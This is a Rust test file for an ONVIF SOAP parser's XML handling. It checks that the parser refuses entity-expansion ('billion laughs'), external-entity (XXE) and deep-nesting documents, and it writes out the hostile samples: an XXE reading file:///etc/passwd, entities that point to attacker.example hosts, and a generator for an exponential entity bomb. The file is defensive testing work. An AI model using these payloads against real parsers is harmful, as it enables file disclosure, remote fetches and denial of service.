//! Documents built to hurt an XML parser: entity expansion ("billion laughs") and external
//! entities (XXE). Entities are never expanded, so both are refused with an error that names
//! the entity, and nothing grows or is fetched.
//! Nothing here opens a socket: addresses are values, written, read and compared.

#![allow(clippy::unwrap_used)]

use onvif_proto::soap::Envelope;
use onvif_proto::{Error, decode, xml};

const SOAP_OPEN: &str = r#"<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:tds="http://www.onvif.org/ver10/device/wsdl"><s:Body>"#;
const SOAP_CLOSE: &str = "</s:Body></s:Envelope>";

fn billion_laughs(use_site: &str) -> String {
    let mut dtd = String::from(r#"<!ENTITY lol0 "lol">"#);
    for i in 1..=9 {
        let refs = format!("&lol{};", i - 1).repeat(10);
        dtd.push_str(&format!(r#"<!ENTITY lol{i} "{refs}">"#));
    }
    format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE s:Envelope [{dtd}]>\n{SOAP_OPEN}{use_site}{SOAP_CLOSE}"
    )
}

/// The error is an XML error at a position, names the entity and says why; it is short (no
/// expansion made its way into it).
fn assert_refused(doc: &str, entity: &str) {
    for e in [
        Envelope::parse(doc.as_bytes()).unwrap_err(),
        decode::decode(doc.as_bytes()).unwrap_err(),
    ] {
        let text = e.to_string();
        let Error::Xml(x) = &e else {
            panic!("expected an XML error, got {text}");
        };
        assert!(x.line > 0 && x.column > 0, "{x:?}");
        assert!(
            text.contains(&format!("undefined entity &{entity};")),
            "{text}"
        );
        assert!(text.contains("never expanded"), "{text}");
        assert!(
            text.len() < 300,
            "suspiciously long error: {} bytes",
            text.len()
        );
        assert!(
            !text.contains("lollol") && !text.contains("root:"),
            "{text}"
        );
    }
}

#[test]
fn billion_laughs_in_text_is_refused() {
    let doc = billion_laughs(
        "<tds:GetDeviceInformationResponse><tds:Model>&lol9;</tds:Model></tds:GetDeviceInformationResponse>",
    );
    let started = std::time::Instant::now();
    assert_refused(&doc, "lol9");
    // Expanded, this would be 3 * 10^9 bytes; refusing takes no time at all.
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
}

#[test]
fn billion_laughs_in_an_attribute_is_refused() {
    let doc = billion_laughs(r#"<tds:GetDeviceInformationResponse a="&lol9;"/>"#);
    assert_refused(&doc, "lol9");
}

#[test]
fn external_entities_are_refused() {
    let doc = format!(
        r#"<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>{SOAP_OPEN}<tds:GetHostnameResponse><tds:HostnameInformation><tt:Name xmlns:tt="http://www.onvif.org/ver10/schema">&xxe;</tt:Name></tds:HostnameInformation></tds:GetHostnameResponse>{SOAP_CLOSE}"#
    );
    assert_refused(&doc, "xxe");
    let doc = format!(
        r#"<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>{SOAP_OPEN}<tds:X v="&xxe;"/>{SOAP_CLOSE}"#
    );
    assert_refused(&doc, "xxe");
}

/// A parameter entity only acts inside the DTD, which is skipped whole: nothing is fetched or
/// inserted, and the document reads as if the DTD were absent.
#[test]
fn parameter_entities_in_a_skipped_dtd_do_nothing() {
    let doc = br#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p; <!ENTITY e "boom">]><r>plain</r>"#;
    let root = xml::parse(doc).unwrap();
    assert_eq!(root.name, "r");
    assert_eq!(root.text(), "plain");
    assert!(root.children.is_empty());
}

#[test]
fn predefined_and_character_references_still_work() {
    let doc = format!(
        "{SOAP_OPEN}<tds:GetHostnameResponse a=\"&lt;&#x41;\">&amp;&#66;&gt;</tds:GetHostnameResponse>{SOAP_CLOSE}"
    );
    let env = Envelope::parse(doc.as_bytes()).unwrap();
    let p = env.payload().unwrap();
    assert_eq!(p.text(), "&B>");
    assert_eq!(p.attr("a"), Some("<A"));
}

#[test]
fn deep_nesting_is_refused_before_it_can_exhaust_the_stack() {
    let depth = 20_000;
    let doc = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let e = onvif_proto::xml::parse(doc.as_bytes()).unwrap_err();
    assert!(e.message.contains("nested deeper than 256"), "{e}");
    let env = format!(
        r#"<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>{}{}</s:Body></s:Envelope>"#,
        "<a>".repeat(depth),
        "</a>".repeat(depth)
    );
    assert!(onvif_proto::decode::decode(env.as_bytes()).is_err());
    // Ordinary depth is fine.
    let ok = format!("{}{}", "<a>".repeat(200), "</a>".repeat(200));
    assert!(onvif_proto::xml::parse(ok.as_bytes()).is_ok());
}
